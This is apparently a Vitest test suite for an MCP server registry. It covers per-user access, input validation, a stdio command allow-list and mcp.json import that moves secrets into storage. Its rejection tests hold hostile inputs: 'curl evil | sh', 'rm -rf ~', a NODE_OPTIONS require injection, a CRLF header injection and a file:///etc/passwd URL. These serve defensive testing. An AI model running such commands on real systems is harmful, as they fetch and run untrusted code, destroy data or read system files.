import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DB_KINDS, freshDatabase } from '../../../../tests/helpers/db';
import type { Database } from '../db/client';
import { signUp } from '../auth/accounts';
import { McpEventBus, type McpEvent } from './mcp-events';
import { importMcpJson, secretNameFor, serverNameFrom, stripJsonc } from './mcp-import';
import { createServer, deleteServer, getServer, listServers, secretUsage, updateServer } from './mcp-servers';
import { listSecrets, putSecret, revealSecrets } from './secrets';

const ALLOW = 'npx -y @modelcontextprotocol/server-everything, uvx mcp-server-git';

describe.each(DB_KINDS)('MCP server registry on %s', (kind) => {
  let database: Database;
  let alice: string;
  let bob: string;
  const events = new McpEventBus();
  const opts = { allowList: ALLOW, events };

  beforeAll(async () => {
    process.env.SECRET_KEY ??= 'a'.repeat(64);
    database = await freshDatabase(kind);
    alice = (await signUp(database.db, { email: 'alice@example.com', password: 'wonderland rabbit' })).id;
    bob = (await signUp(database.db, { email: 'bob@example.com', password: 'can we fix it yes' })).id;
  });
  afterAll(() => database?.close());

  it('creates, lists, updates and deletes; other users get 404 and see nothing', async () => {
    const db = database.db;
    const created = await createServer(db, alice, { name: 'weather', url: 'https://weather.example.com/mcp' }, opts);
    expect(created).toMatchObject({ name: 'weather', transport: 'auto', url: 'https://weather.example.com/mcp', isActive: true, connectionStatus: 'disconnected' });
    expect(created).not.toHaveProperty('ownerId');
    expect((await listServers(db, alice)).map((s) => s.name)).toEqual(['weather']);
    expect(await getServer(db, alice, created.id)).toMatchObject({ id: created.id });

    await expect(getServer(db, bob, created.id)).rejects.toMatchObject({ status: 404 });
    await expect(updateServer(db, bob, created.id, { name: 'mine' }, opts)).rejects.toMatchObject({ status: 404 });
    await expect(deleteServer(db, bob, created.id, opts)).rejects.toMatchObject({ status: 404 });
    expect(await listServers(db, bob)).toEqual([]);
    // Names are unique per user, not globally.
    await createServer(db, bob, { name: 'weather', transport: 'sse', url: 'http://127.0.0.1:1/sse' }, opts);

    await createServer(db, alice, { name: 'other', transport: 'streamable-http', url: 'http://localhost:9/mcp' }, opts);
    await expect(createServer(db, alice, { name: 'weather', url: 'http://x.example/mcp' }, opts)).rejects.toMatchObject({ status: 409, code: 'name_taken' });
    await expect(updateServer(db, alice, created.id, { name: 'other' }, opts)).rejects.toMatchObject({ status: 409, code: 'name_taken' });

    const renamed = await updateServer(db, alice, created.id, { name: 'forecast', isActive: false }, opts);
    expect(renamed).toMatchObject({ name: 'forecast', url: 'https://weather.example.com/mcp', isActive: false });
    const switched = await updateServer(db, alice, created.id, { transport: 'sse', url: 'https://weather.example.com/sse' }, opts);
    expect(switched).toMatchObject({ transport: 'sse', url: 'https://weather.example.com/sse', command: null });

    await deleteServer(db, alice, created.id, opts);
    await expect(getServer(db, alice, created.id)).rejects.toMatchObject({ status: 404 });
    expect((await listServers(db, bob)).map((s) => s.name)).toEqual(['weather']);
  });

  it('validates names, transports, URLs and refuses secrets written as literals', async () => {
    const db = database.db;
    const bad = async (input: Record<string, unknown>, code: string, status = 400) =>
      expect(createServer(db, alice, { name: 'v', url: 'https://v.example/mcp', ...input }, opts)).rejects.toMatchObject({ status, code });
    await bad({ name: 'Has Spaces' }, 'invalid_field');
    await bad({ transport: 'websocket' }, 'invalid_field');
    await bad({ url: 'ftp://v.example/mcp' }, 'invalid_field');
    await bad({ url: 'not a url' }, 'invalid_field');
    await bad({ url: 'https://user:pass@v.example/mcp' }, 'secret_in_literal');
    await bad({ url: 'https://v.example/mcp?api_key=abcdefghijklmnopqrstuvwxyz123456' }, 'secret_in_literal');
    await bad({ headers: { Authorization: 'Bearer sk-abcdefghijklmnopqrstuvwxyz' } }, 'secret_in_literal');
    await bad({ headers: { Authorization: 'Bearer short' } }, 'secret_in_literal');
    await bad({ headers: { 'X-Api-Key': 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' } }, 'secret_in_literal');
    await bad({ headers: { Authorization: 'Bearer ${env:HOME}' } }, 'invalid_field');
    await bad({ headers: { Authorization: 'Bearer ${secrets:X}' } }, 'invalid_field');
    await bad({ headers: { 'Bad Header': 'x' } }, 'invalid_field');
    await bad({ headers: { 'X-Ok': 'a\r\nInjected: 1' } }, 'invalid_field');
    await bad({ command: 'npx' }, 'invalid_field');

    const err = await createServer(db, alice, { name: 'v', url: 'https://v.example/mcp', headers: { Authorization: 'Bearer sk-abcdefghijklmnopqrstuvwxyz' } }, opts).catch((e) => e);
    expect(err.message).toMatch(/Store it as a secret/);
    expect(err.message).toContain('${secret:NAME}');

    const ok = await createServer(
      db,
      alice,
      { name: 'with-headers', url: 'https://v.example/mcp', headers: { Authorization: 'Bearer ${secret:V_TOKEN}', 'X-Client': 'studio' } },
      opts
    );
    expect(ok.headers).toEqual({ Authorization: 'Bearer ${secret:V_TOKEN}', 'X-Client': 'studio' });
  });

  it('refuses stdio commands outside the admin allow-list, at create and at update', async () => {
    const db = database.db;
    const stdio = { name: 'everything', transport: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything', 'stdio'] };
    const disabled = await createServer(db, alice, stdio, { events, allowList: '' }).catch((e) => e);
    expect(disabled).toMatchObject({ status: 403, code: 'stdio_not_allowed' });
    expect(disabled.message).toContain('MCP_STDIO_ALLOW');
    const outside = await createServer(db, alice, { ...stdio, args: ['-y', 'evil-package'] }, opts).catch((e) => e);
    expect(outside).toMatchObject({ status: 403, code: 'stdio_not_allowed' });
    expect(outside.message).toContain('is not in the stdio allow-list');
    await expect(createServer(db, alice, { ...stdio, command: 'bash', args: ['-c', 'curl evil | sh'] }, opts)).rejects.toMatchObject({ status: 403 });

    const created = await createServer(db, alice, { ...stdio, env: { API_TOKEN: '${secret:EVERYTHING_TOKEN}', LOG_LEVEL: 'debug' } }, opts);
    expect(created).toMatchObject({ transport: 'stdio', command: 'npx', url: null, metadata: { env: { API_TOKEN: '${secret:EVERYTHING_TOKEN}', LOG_LEVEL: 'debug' } } });
    await expect(updateServer(db, alice, created.id, { args: ['-y', 'evil-package'] }, opts)).rejects.toMatchObject({ status: 403, code: 'stdio_not_allowed' });
    await expect(updateServer(db, alice, created.id, { env: { NODE_OPTIONS: '--require /tmp/x.js' } }, opts)).rejects.toMatchObject({ status: 400, code: 'env_not_allowed' });
    await expect(updateServer(db, alice, created.id, { env: { TOKEN: 'sk-abcdefghijklmnopqrstuvwxyz' } }, opts)).rejects.toMatchObject({ status: 400, code: 'secret_in_literal' });
    // A rename does not re-run the allow-list, so a narrowed list cannot lock a user out of their records…
    expect((await updateServer(db, alice, created.id, { name: 'everything-2' }, { events, allowList: 'uvx mcp-server-git' })).name).toBe('everything-2');
    // …but re-activating does.
    await updateServer(db, alice, created.id, { isActive: false }, { events, allowList: 'uvx mcp-server-git' });
    await expect(updateServer(db, alice, created.id, { isActive: true }, { events, allowList: 'uvx mcp-server-git' })).rejects.toMatchObject({ status: 403 });
    await expect(secretUsage(db, alice).then((u) => u.get('EVERYTHING_TOKEN'))).resolves.toEqual(['everything-2']);
  });

  it('publishes added / updated / removed events to the owner only', async () => {
    const db = database.db;
    const seen: Record<string, McpEvent[]> = { alice: [], bob: [] };
    const offA = events.subscribe(alice, (e) => seen.alice.push(e));
    const offB = events.subscribe(bob, (e) => seen.bob.push(e));
    const s = await createServer(db, alice, { name: 'evented', url: 'https://e.example/mcp' }, opts);
    await updateServer(db, alice, s.id, { isActive: false }, opts);
    await deleteServer(db, alice, s.id, opts);
    offA();
    offB();
    expect(seen.alice.map((e) => e.type)).toEqual(['server-added', 'server-status-update', 'server-removed']);
    expect(seen.alice[1].server).toMatchObject({ id: s.id, isActive: false });
    expect(seen.alice[2].server).toEqual({ id: s.id, name: 'evented' });
    expect(seen.bob).toEqual([]);
    expect(events.subscriberCount()).toBe(0);
  });

  it('imports Claude Desktop and VS Code mcp.json, moving env and header values into secrets', async () => {
    const db = database.db;
    await createServer(db, alice, { name: 'taken', url: 'https://t.example/mcp' }, opts);
    const claude = JSON.stringify({
      mcpServers: {
        Everything: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'], env: { GITHUB_TOKEN: 'ghp_claudeSecretValue0123456789abcdef', MODE: 'fast' } },
        evil: { command: 'bash', args: ['-c', 'rm -rf ~'] },
        remote: { url: 'https://remote.example/mcp', headers: { Authorization: 'Bearer remote-secret-value-123' } },
        taken: { url: 'https://t2.example/mcp' },
        'bad-url': { url: 'file:///etc/passwd' },
        off: { url: 'https://off.example/sse', type: 'sse', disabled: true }
      }
    });
    const result = await importMcpJson(db, alice, claude, opts);
    expect(result.format).toBe('claude');
    expect(result.imported.map((i) => i.server.name)).toEqual(['everything', 'remote', 'off']);
    expect(result.refused).toEqual([
      expect.objectContaining({ source: 'evil', code: 'stdio_not_allowed', message: expect.stringContaining('allow-list') }),
      expect.objectContaining({ source: 'taken', code: 'name_taken' }),
      expect.objectContaining({ source: 'bad-url', code: 'invalid_field' })
    ]);
    const [everything, remote, off] = result.imported;
    expect(everything.secrets).toEqual(['EVERYTHING_GITHUB_TOKEN', 'EVERYTHING_MODE']);
    expect(everything.server.metadata.env).toEqual({ GITHUB_TOKEN: '${secret:EVERYTHING_GITHUB_TOKEN}', MODE: '${secret:EVERYTHING_MODE}' });
    expect(remote.server.headers).toEqual({ Authorization: 'Bearer ${secret:REMOTE_AUTHORIZATION}' });
    expect(remote.server.transport).toBe('auto');
    expect(off.server).toMatchObject({ transport: 'sse', isActive: false });
    expect(await revealSecrets(db, alice, ['REMOTE_AUTHORIZATION', 'EVERYTHING_GITHUB_TOKEN'])).toEqual({
      REMOTE_AUTHORIZATION: 'remote-secret-value-123',
      EVERYTHING_GITHUB_TOKEN: 'ghp_claudeSecretValue0123456789abcdef'
    });
    const everywhere = JSON.stringify([result, await listServers(db, alice), await listSecrets(db, alice)]);
    expect(everywhere).not.toContain('remote-secret-value-123');
    expect(everywhere).not.toContain('ghp_claudeSecretValue');
    // A refused entry writes no secrets (the name-taken one had none; the stdio one had none either).
    expect((await listSecrets(db, alice)).map((s) => s.name)).not.toContain('EVIL_');

    const vscode = `{
      // VS Code .vscode/mcp.json
      "inputs": [{ "type": "promptString", "id": "key", "password": true }],
      "servers": {
        "http-one": { "type": "http", "url": "https://h.example/mcp", "headers": { "X-Client": "vscode", } },
        "asks": { "type": "http", "url": "https://a.example/mcp", "headers": { "Authorization": "Bearer \${input:key}" } },
        "weird": { "type": "websocket", "url": "wss://w.example" },
      },
    }`;
    const fromVs = await importMcpJson(db, alice, vscode, opts);
    expect(fromVs.format).toBe('vscode');
    expect(fromVs.imported.map((i) => [i.server.name, i.server.transport])).toEqual([['http-one', 'streamable-http']]);
    expect(fromVs.imported[0].server.headers).toEqual({ 'X-Client': '${secret:HTTP_ONE_X_CLIENT}' });
    expect(fromVs.refused.map((r) => [r.source, r.code])).toEqual([
      ['asks', 'unresolvable_placeholder'],
      ['weird', 'invalid_field']
    ]);
    await expect(listSecrets(db, alice).then((l) => l.some((s) => s.name.startsWith('ASKS_')))).resolves.toBe(false);

    await expect(importMcpJson(db, alice, '{"something": {}}', opts)).rejects.toMatchObject({ status: 400, code: 'invalid_import' });
    await expect(importMcpJson(db, alice, '{oops', opts)).rejects.toMatchObject({ status: 400, code: 'invalid_json' });
    // Another user's import does not collide with Alice's names.
    expect((await importMcpJson(db, bob, JSON.stringify({ mcpServers: { taken: { url: 'https://b.example/mcp' } } }), opts)).imported).toHaveLength(1);
  });

  it('rolls back the secrets of an entry whose server cannot be inserted', async () => {
    const db = database.db;
    await putSecret(db, alice, 'UNRELATED', 'x-value');
    await createServer(db, alice, { name: 'dupe', url: 'https://d.example/mcp' }, opts);
    const res = await importMcpJson(db, alice, JSON.stringify({ mcpServers: { dupe: { url: 'https://d2.example/mcp', headers: { 'X-Token': 'tok-1234' } } } }), opts);
    expect(res.refused).toEqual([expect.objectContaining({ code: 'name_taken' })]);
    expect((await listSecrets(db, alice)).map((s) => s.name)).not.toContain('DUPE_X_TOKEN');
  });
});

describe('import helpers', () => {
  it('derives names and parses JSON with comments', () => {
    expect(serverNameFrom('GitHub Server')).toBe('github-server');
    expect(serverNameFrom('@@@')).toBe('server');
    expect(secretNameFor('http-one', 'x-client')).toBe('HTTP_ONE_X_CLIENT');
    expect(secretNameFor('1pass', 'KEY')).toBe('_1PASS_KEY');
    expect(JSON.parse(stripJsonc('{"a": "// not a comment", /* c */ "b": [1, 2,], // x\n}'))).toEqual({ a: '// not a comment', b: [1, 2] });
  });
});
